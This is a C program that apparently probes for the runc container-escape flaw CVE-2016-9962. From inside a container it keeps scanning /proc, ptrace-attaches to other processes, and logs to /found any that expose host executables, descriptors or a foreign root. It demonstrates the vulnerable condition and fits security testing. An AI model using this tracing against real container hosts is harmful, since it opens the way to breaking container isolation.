/* What a container's process does to see more than its container (CVE-2016-9962).
 *
 * It looks, without a pause, at every other process of its PID namespace: what it executes, its root,
 * its working directory, its descriptors; and traces it. Whoever is reached while it still executes a
 * program from outside, or anything that is outside, is written to /found, a line for each.
 */

#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

static struct stat root;

static void say(const char *what, const char *path, const char *where)
{
	char line[1024];
	int length = snprintf(line, sizeof line, "%s %s %s\n", what, path, where);
	int fd = open("/found", O_WRONLY | O_CREAT | O_APPEND, 0644);
	if (write(fd, line, length) < 0)
		abort();
	close(fd);
}

/* Whether a link was read, and leads to a program or a file that is not of this container. */
static int is_strange(const char *path, char *target)
{
	ssize_t length = readlink(path, target, 500);
	if (length < 0)
		return 0;
	target[length] = 0;
	return strstr(target, "python") || strstr(target, "memfd") || strstr(target, "nsenter") ||
	       strstr(target, "unreachable");
}

static void look_at_descriptors(const char *process)
{
	char path[300], target[501];
	DIR *directory;
	struct dirent *entry;
	snprintf(path, sizeof path, "%s/fd", process);
	if (!(directory = opendir(path)))
		return;
	while ((entry = readdir(directory))) {
		if (!isdigit(entry->d_name[0]) || atoi(entry->d_name) < 3)
			continue;
		snprintf(path, sizeof path, "%s/fd/%.20s", process, entry->d_name);
		ssize_t length = readlink(path, target, 500);
		if (length < 0)
			continue;
		target[length] = 0;
		say("descriptor", path, target);
	}
	closedir(directory);
}

/* Stops it, which is all that it takes to have its rights; a command of this container is let go. */
static void trace(int pid, const char *process)
{
	char path[200], target[501];
	int status;
	if (ptrace(PTRACE_SEIZE, pid, 0, 0) < 0)
		return;
	ptrace(PTRACE_INTERRUPT, pid, 0, 0);
	if (waitpid(pid, &status, __WALL) != pid || !WIFSTOPPED(status))
		return;
	snprintf(path, sizeof path, "%s/exe", process);
	if (is_strange(path, target))
		say("traced", path, target);
	int number = WSTOPSIG(status);
	ptrace(PTRACE_DETACH, pid, 0, number == SIGTRAP ? 0 : number);
}

static void look_at(int pid)
{
	char process[100], path[200], target[501];
	struct stat status;
	static const char *links[] = {"exe", "cwd", "root"};
	snprintf(process, sizeof process, "/proc/%d", pid);
	for (int i = 0; i < 3; i++) {
		snprintf(path, sizeof path, "%s/%s", process, links[i]);
		if (is_strange(path, target))
			say(links[i], path, target);
	}
	snprintf(path, sizeof path, "%s/root/", process);
	if (stat(path, &status) == 0 && (status.st_dev != root.st_dev || status.st_ino != root.st_ino))
		say("root", path, "is another");
	look_at_descriptors(process);
	trace(pid, process);
}

int main(int argc, char **argv)
{
	const char *place = argc > 1 ? argv[1] : "/";
	stat(place, &root);
	for (;;) {
		DIR *processes = opendir("/proc");
		struct dirent *entry;
		while ((entry = readdir(processes))) {
			int pid = atoi(entry->d_name);
			if (pid > 0 && pid != getpid())
				look_at(pid);
		}
		closedir(processes);
		if (access("/watching", F_OK))
			close(open("/watching", O_CREAT | O_WRONLY, 0644));
	}
}
